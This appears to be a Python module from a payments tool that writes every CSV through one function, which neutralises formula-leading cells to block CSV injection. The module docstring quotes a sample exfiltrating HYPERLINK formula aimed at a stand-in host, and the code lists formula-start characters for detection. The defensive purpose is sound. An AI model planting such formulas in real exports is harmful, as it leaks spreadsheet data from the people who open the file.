"""The one CSV writer: a header row, then one row per record, every cell as text.

Every CSV that shub-pay writes (the commands' `--format csv`, `report revenue --output`, the
demo's file for finance) goes through `write_csv`, so a rule about CSV cells is kept in one place.

The rule: no cell is a formula. A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a
tab or a carriage return as a formula, so a creator who names a product
`=HYPERLINK("http://x/?leak="&A1,"Click")` would otherwise run code on finance's machine (OWASP
"CSV Injection"). Such a cell is written with a leading `'`, which spreadsheets show as text.
A plain decimal number (`-12.50`, `+3`) is left alone: it cannot be a formula, and amounts must
stay numbers for `SUM()`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO


def plain_cell(value: Any) -> str:
    """A value already shaped for CSV (text or a number) as its cell; nothing for None."""
    return "" if value is None else str(value)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_STARTS = frozenset(FORMULA_STARTS)
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def safe_cell(cell: Any) -> Any:
    """The cell as a spreadsheet will show it, never run it (see the module docstring).

    A carriage return inside a cell becomes a line feed: Python's writer (3.11) quotes a field
    for the line terminator (`\n`) but not for a lone `\r`, which readers take as a row end."""
    if not isinstance(cell, str) or (cell[:1] not in _STARTS and "\r" not in cell):
        return cell  # the common case, decided without a scan for formulas
    if "\r" in cell:
        cell = cell.replace("\r\n", "\n").replace("\r", "\n")
        if cell.startswith("\n"):
            return "'" + cell
    if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def write_csv(out: TextIO, keys: Sequence[str], rows: Iterable[Sequence[str]]) -> None:
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([safe_cell(k) for k in keys])
    writer.writerows([safe_cell(c) for c in row] for row in rows)


def write_records(out: TextIO, keys: Sequence[str], records: Iterable[Mapping[str, Any]]) -> None:
    """Records whose values are already text or numbers (see `plain_cell`)."""
    write_csv(out, keys, ([plain_cell(r.get(k)) for k in keys] for r in records))


def text_cells(cells: Sequence[Any]) -> str:
    """The CSV text of a row's first cells (text, None for nothing), neutralised and quoted as
    `write_amount_rows` writes them, without the line's end: what follows is joined to it."""
    out = io.StringIO()
    # The same line end as every row: the writer quotes a cell holding one of its characters.
    csv.writer(out, lineterminator="\n").writerow([safe_cell(plain_cell(c)) for c in cells])
    return out.getvalue()[:-1]


def write_amount_rows(
    out: TextIO, keys: Sequence[str], rows: Iterable[Sequence[Any]], *, text_columns: int
) -> None:
    """Rows whose first `text_columns` cells are text (None for nothing), neutralised as every
    cell is, and whose other cells are decimal strings shub-pay formatted itself
    (`domain.money`), written as they are: a plain number is never a formula (see the module's
    doc). For long tables: a statement's 100,000 lines."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([safe_cell(k) for k in keys])
    writer.writerows(
        [*(safe_cell(plain_cell(c)) for c in row[:text_columns]), *row[text_columns:]]
        for row in rows
    )
